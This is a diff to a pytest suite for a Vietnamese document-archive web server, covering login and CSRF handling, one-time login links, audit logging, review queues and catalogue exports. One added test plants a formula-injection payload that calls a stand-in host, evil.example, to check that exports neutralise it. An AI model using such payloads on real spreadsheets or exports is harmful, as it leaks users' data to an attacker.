@@ -23,67 +23,19 @@ from harness import BIN
 from httpx import Response
 from markupsafe import escape
 from pgcluster import url_of
-from PIL import Image, ImageDraw
-from test_ingest import BatchSrc, PageSrc
+from real_archive import RealArchive
 
 from protocol import topics
-from protocol.messages import PageEntry
 from server.app import create_app
 from server.archive import audit, auth
 from server.archive.catalog import match_spans
 from server.config import ServerSettings
-from server.ingest import Ingest
 from server.store.db import Database
-from server.store.files import Store
 from server.web import marked
 
-TEXT = (
-    "ỦY BAN NHÂN DÂN XÃ TÂN LẬP\n"
-    "Biên bản xử lý vi phạm: Khai thác khoáng sản trái phép tại thôn Đông."
-)
 PASSWORD = "mật-khẩu-đủ-dài"
-
-
-def jpeg(text: str = "Khai thac khoang san", size: tuple[int, int] = (620, 877)) -> bytes:
-    im = Image.new("RGB", size, "white")
-    ImageDraw.Draw(im).text((40, 60), text, fill="black")
-    buf = io.BytesIO()
-    im.save(buf, "JPEG", quality=80, dpi=(200, 200))
-    return buf.getvalue()
-
-
-@dataclass
-class FlaggedPage(PageSrc):
-    flags: tuple[str, ...] = field(default=())
-
-    def entry(self) -> PageEntry:
-        return super().entry().model_copy(update={"flags": self.flags, "ocr_confidence": 91.5})
-
-
-def seed(
-    data_dir: Path,
-    texts: list[str],
-    flags: list[tuple[str, ...]] | None = None,
-    database: Path | str | None = None,
-) -> None:
-    """One complete batch with a text, thumb and archival JPEG per page, via ingest (into
-    ``database``; default: the SQLite file of ``data_dir``)."""
-    flags = flags or [()] * len(texts)
-    pages = [
-        FlaggedPage(
-            page_no=n,
-            parts={"text": t.encode(), "thumb": jpeg(t[:20], (124, 175)), "archival": jpeg(t[:30])},
-            flags=f,
-        )
-        for n, (t, f) in enumerate(zip(texts, flags, strict=True), 1)
-    ]
-    batch = BatchSrc(pages=pages)
-    db = Database(database or data_dir / "archive.sqlite3")
-    ingest = Ingest(db, Store(data_dir / "store"))
-    ingest.handle(topics.up(batch.device, "manifest"), batch.manifest())
-    for payload in batch.all_chunks(64 * 1024):
-        ingest.handle(topics.up(batch.device, "chunk"), payload)
-    db.close()
+# The staff fixture's archive comes from the real pipeline, so these tests start its parts.
+pytestmark = [pytest.mark.tesseract, pytest.mark.mqtt, pytest.mark.slow]
 
 
 @dataclass
@@ -115,16 +67,17 @@ def csrf_of(html: str) -> str:
 
 
 @pytest.fixture
-def staff(tmp_path: Path, database: Path | str) -> Iterator[Staff]:
+def staff(
+    request: pytest.FixtureRequest, tmp_path: Path, real_archive: RealArchive
+) -> Iterator[Staff]:
+    """The app in process over a private copy of the archive the real pipeline built
+    (tests/real_archive.py: page 1 the "khoáng sản" minutes, page 2 "Sổ hộ tịch", page 3
+    blank paper, flagged by the pipeline), with a user and a token per role."""
+    cluster = request.getfixturevalue("pg_cluster") if real_archive.engine != "sqlite" else None
+    url = real_archive.catalogue_for(tmp_path / "db" / "archive.sqlite3", cluster)
     data_dir = tmp_path / "server"
-    data_dir.mkdir()
-    seed(
-        data_dir,
-        [TEXT, "Trang hai. Sổ hộ tịch năm 1998.", ""],
-        [(), ("low_confidence",), ("blank", "ocr_retry")],
-        database,
-    )
-    settings = ServerSettings(data_dir=data_dir, ingest=False, database_url=url_of(database))
+    real_archive.seed_data_dir(data_dir)
+    settings = ServerSettings(data_dir=data_dir, ingest=False, database_url=url)
     db = Database(settings.database())
     tokens = {}
     for role in auth.ROLES:
@@ -241,11 +194,39 @@ def test_login_form_refuses_a_post_without_its_csrf_value(staff: Staff) -> None:
     assert "login.csrf" in [r["action"] for r in audit.recent(staff.db, 50)]
 
 
-def test_token_login_link_still_works(staff: Staff) -> None:
-    r = staff.client.get(f"/login?token={staff.tokens['archivist']}", follow_redirects=False)
-    assert r.status_code == 303 and r.headers["location"] == "/"
-    assert staff.client.get("/ho-so/new").status_code == 200
-    assert staff.client.get("/login?token=bad").status_code == 401
+def test_no_token_in_a_url_logs_anyone_in(staff: Staff) -> None:
+    # The attack: /login?token=… put a 90-day token in URLs and the access log, and logged
+    # a victim who followed an attacker's link into the attacker's account.
+    c = staff.client
+    r = c.get(f"/login?token={staff.tokens['archivist']}", follow_redirects=False)
+    assert r.status_code == 200 and "sohoa_session" not in r.headers.get("set-cookie", "")
+    assert c.get("/", follow_redirects=False).status_code == 303  # not logged in
+    # A token pasted into the login form (a POST, never a URL) still works.
+    csrf = csrf_of(c.get("/login").text)
+    r = c.post("/login", data={"token": staff.tokens["archivist"], "csrf": csrf},
+               follow_redirects=False)  # fmt: skip
+    assert r.status_code == 303 and c.get("/ho-so/new").status_code == 200
+
+
+def test_one_time_login_link(staff: Staff) -> None:
+    c = staff.client
+    code = auth.create_login_link(staff.db, "archivist")
+    # Opening the link names the account and spends nothing (link previews fetch it).
+    for _ in range(2):
+        page = c.get(f"/login/link?code={code}")
+        assert page.status_code == 200 and "archivist" in page.text
+    assert c.get("/", follow_redirects=False).status_code == 303
+    csrf = csrf_of(page.text)
+    assert c.post("/login/link", data={"code": code, "csrf": "forged"}).status_code == 403
+    r = c.post("/login/link", data={"code": code, "csrf": csrf}, follow_redirects=False)
+    assert r.status_code == 303 and c.get("/ho-so/new").status_code == 200
+    c.post("/logout", data={"csrf": csrf_of(c.get("/").text)})
+    # Spent: the same link logs nobody in again.
+    assert c.get(f"/login/link?code={code}").status_code == 401
+    csrf = csrf_of(c.get("/login").text)
+    r = c.post("/login/link", data={"code": code, "csrf": csrf}, follow_redirects=False)
+    assert r.status_code == 401
+    assert c.get("/logout", follow_redirects=False).status_code == 405  # POST only
 
 
 def test_login_brake(staff: Staff) -> None:
@@ -300,7 +281,8 @@ def test_cli_user_add_and_token(tmp_path: Path, database: Path | str) -> None:
     assert auth.principal_for_token(db, token) == auth.Principal("lan", "archivist")
     assert auth.authenticate(db, "lan", PASSWORD, "1.2.3.4") is not None
     out = subprocess.run([cli, "audit", "verify"], env=env, capture_output=True, text=True)
-    assert out.returncode == 0 and "2 rows" in out.stdout
+    # user.add, token.create and the login (auth.login audits what it decides)
+    assert out.returncode == 0 and "3 rows" in out.stdout
 
 
 # -- audit ------------------------------------------------------------------------------------
@@ -309,10 +291,10 @@ def test_cli_user_add_and_token(tmp_path: Path, database: Path | str) -> None:
 def test_audit_records_and_is_append_only(staff: Staff, tmp_path: Path) -> None:
     c = staff.client
     post_login(c, username="admin", password="wrong password")
-    staff.login("admin")
+    csrf = staff.login("admin")
     c.get("/batches/1")
     make_ho_so(staff)
-    c.get("/api/v1/catalogue.csv")
+    assert c.post("/api/v1/catalogue.csv", data={"csrf": csrf}).status_code == 200
     actions = [r["action"] for r in audit.recent(staff.db, 100)]
     for expected in ("login.fail", "login", "batch.view", "ho_so.create", "van_ban.create",
                      "export.catalogue"):  # fmt: skip
@@ -474,11 +456,16 @@ def test_viewer_review_dashboard(staff: Staff) -> None:
     csrf = staff.login("archivist")
     c = staff.client
     page = c.get("/pages/1?q=khoang san").text
-    assert "<mark>khoáng</mark> <mark>sản</mark>" in page and "/api/v1/pages/1/image" in page
+    assert "<mark>khoáng</mark> <mark>sản</mark>" in page
+    # The image is the server's rendering of the archival PDF/A, which a browser can show.
+    assert "/api/v1/pages/1/render?w=" in page and "/api/v1/pages/1/image" not in page
+    assert 'data-q="khoang san"' in page and "<script>" not in page
+    # The review queue holds what the pipeline flagged: the blank sheet, page 3.
     queue = c.get("/review").text
-    assert "OCR kém tin cậy" in queue and "trang trắng" in queue
-    assert c.post("/review/2", data={"csrf": csrf}).status_code == 200
+    assert "trang trắng" in queue and "OCR kém tin cậy" not in queue
     assert [i["id"] for i in c.get("/api/v1/review").json()] == [3]
+    assert c.post("/review/3", data={"csrf": csrf}).status_code == 200
+    assert c.get("/api/v1/review").json() == []
     assert c.get("/").status_code == 200
 
 
@@ -525,6 +512,27 @@ def test_catalogue_csv_and_xlsx(staff: Staff) -> None:
     bulk = staff.client.get("/api/v1/export/000.00.00.H53.zip", headers=h)
     with zipfile.ZipFile(io.BytesIO(bulk.content)) as zf:
         assert sorted(zf.namelist()) == [f"{MA}.zip", "danh-muc-ho-so.csv"]
+
+
+def test_catalogue_cells_are_never_formulas(staff: Staff) -> None:
+    # The attack: metadata that a spreadsheet runs (=HYPERLINK became a live formula).
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    body = ho_so_body(tieu_de=evil, nguoi_lap="@SUM(1+1)", ghi_chu="\t=1+2")
+    h = staff.bearer("archivist")
+    assert staff.client.put(f"/api/v1/ho-so/{MA}", json=body, headers=h).status_code == 200
+    r = staff.client.get("/api/v1/catalogue.csv", headers=h)
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Tiêu đề hồ sơ"] == "'" + evil
+    assert row["Người lập hồ sơ"] == "'@SUM(1+1)"
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows[1])
+    x = staff.client.get("/api/v1/catalogue.xlsx", headers=h)
+    from openpyxl import load_workbook
+
+    ws = load_workbook(io.BytesIO(x.content)).active
+    cells = {c.value: c for c in ws[2]}
+    assert cells[evil].data_type == "s"  # kept as entered, stored as text
+    assert all(c.data_type != "f" for c in ws[2])
 
 
 # -- review actions: rotate, re-scan request --------------------------------------------------
@@ -702,7 +710,8 @@ def test_commune_progress_from_ho_so_then_from_the_admin_label(staff: Staff) -> 
     (device,) = [d["device_id"] for d in c.get("/api/v1/devices", headers=v).json()]
     (unknown,) = c.get("/api/v1/communes", headers=v).json()
     assert unknown["commune"] == "" and unknown["devices"] == [device]
-    assert (unknown["pages"], unknown["pages_received"], unknown["pages_flagged"]) == (3, 3, 2)
+    # The pipeline flagged one page of three (the blank one).
+    assert (unknown["pages"], unknown["pages_received"], unknown["pages_flagged"]) == (3, 3, 1)
     assert len(unknown["per_day"]) == 30 and unknown["per_day"][-1] == 3
     # Described in a hồ sơ: the commune is its OrganId until an admin names it.
     make_ho_so(staff)
@@ -769,3 +778,25 @@ def test_run_refuses_to_start_with_one_clear_line(tmp_path: Path) -> None:
         assert out.returncode == code, (extra, out.stderr)
         assert words in out.stderr and "Traceback" not in out.stderr, out.stderr
         assert len(out.stderr.strip().splitlines()) == 1, out.stderr
+
+
+def test_dashboard_shows_alerts_and_an_archive_that_cannot_store(staff: Staff) -> None:
+    """The archive's own trouble (a full disk: tests/test_fulldisk.py makes it happen) is
+    shown to staff while it lasts, and alert rows are listed, newest first, in Vietnamese."""
+    with staff.db.tx() as con:
+        for at, kind, detail in (
+            (1.0, "archive_cannot_store", "OSError: [Errno 28] No space left on device"),
+            (2.0, "archive_stores_again", "after: OSError: [Errno 28]"),
+        ):
+            con.execute(
+                "INSERT INTO alerts(at, device_id, kind, detail) VALUES (?, ?, ?, ?)",
+                (at, None, kind, detail),
+            )
+    staff.login("viewer")
+    page = staff.client.get("/").text
+    assert "Kho lưu trữ hiện không ghi được" not in page
+    assert page.index("Kho ghi được dữ liệu trở lại") < page.index("Kho không ghi được dữ liệu")
+    staff.client.app.state.ingest_trouble = lambda: "OSError: [Errno 28] No space left"  # type: ignore[attr-defined]
+    page = staff.client.get("/").text
+    assert "Kho lưu trữ hiện không ghi được dữ liệu" in page
+    assert "No space left" in page
